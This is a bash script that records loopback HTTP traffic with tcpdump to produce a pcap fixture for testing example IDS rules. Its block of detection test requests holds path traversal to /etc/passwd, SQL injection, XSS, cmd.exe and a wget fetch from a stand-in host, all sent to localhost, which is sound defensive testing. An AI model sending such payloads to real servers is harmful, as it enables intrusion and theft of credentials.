#!/usr/bin/env bash
# Capture real HTTP/1.1 traffic on loopback into a small pcap for the tests.
#
# A real server (Python's http.server, HTTP/1.1 keep-alive) listens on 127.0.0.1; real clients
# (curl: keep-alive GETs, HEAD, POST, chunked responses, 404s, attack-looking URLs; a pipelining
# client) talk to it while tcpdump records the loopback interface.
# Needs: tcpdump, curl, python3 (apt-get install tcpdump curl). Run as root (tcpdump on lo).
#
#   bash examples/nf/capture/capture_loopback.sh tests/data/loopback-http.pcap
set -euo pipefail
OUT=${1:-loopback-http.pcap}
PORT=${PORT:-80}
HERE=$(cd "$(dirname "$0")" && pwd)
PY=${PYTHON:-python3}
command -v tcpdump >/dev/null || { echo "tcpdump is not installed (apt-get install tcpdump)"; exit 1; }
command -v curl >/dev/null || { echo "curl is not installed (apt-get install curl)"; exit 1; }

"$PY" "$HERE/http_server.py" "$PORT" & SERVER=$!
trap 'kill $SERVER 2>/dev/null || true' EXIT
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$PORT/ready" && break; sleep 0.1; done

tcpdump -i lo -s 0 -U -w "$OUT" "tcp port $PORT" 2>/dev/null & DUMP=$!
sleep 1

BASE="http://127.0.0.1:$PORT"
H="-H Host:www.example.test"
# keep-alive connections: several requests each (curl reuses the connection within one call)
curl -s $H -o /dev/null -o /dev/null -o /dev/null "$BASE/index.html" "$BASE/about.html" "$BASE/news/1.html"
curl -s -H "Host: shop.example.test" -o /dev/null -o /dev/null "$BASE/chunked/catalog" "$BASE/cart"
curl -s -I $H "$BASE/head-only.html" -o /dev/null
curl -s $H -o /dev/null "$BASE/missing/page"
curl -s -H "Host: api.example.test" -o /dev/null -X POST --data "user=alice&comment=hello+world" "$BASE/api/comment"
# requests the example IDS rules detect (traversal, SQL injection, XSS, cmd.exe, wget)
curl -s --path-as-is $H -o /dev/null "$BASE/cgi-bin/../../../../etc/passwd"
curl -s $H -o /dev/null "$BASE/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users"
curl -s $H -o /dev/null "$BASE/index.php?page=%3Cscript%3Ealert(1)%3C/script%3E"
curl -s $H -o /dev/null "$BASE/scripts/cmd.exe?/c+dir"
curl -s -H "Host: api.example.test" -o /dev/null -X POST --data "cmd=wget http://203.0.113.9/x.sh" "$BASE/api/run"
# one bigger connection: 12 keep-alive requests
ARGS=()
for i in $(seq 12); do ARGS+=(-o /dev/null "$BASE/docs/page$i.html"); done
curl -s -H "Host: docs.example.test" "${ARGS[@]}"
# pipelined requests on one connection
"$PY" "$HERE/pipeline_client.py" "$PORT" 4 >/dev/null

sleep 1
kill -INT $DUMP
wait $DUMP 2>/dev/null || true
echo "wrote $OUT ($(stat -c %s "$OUT") bytes)"
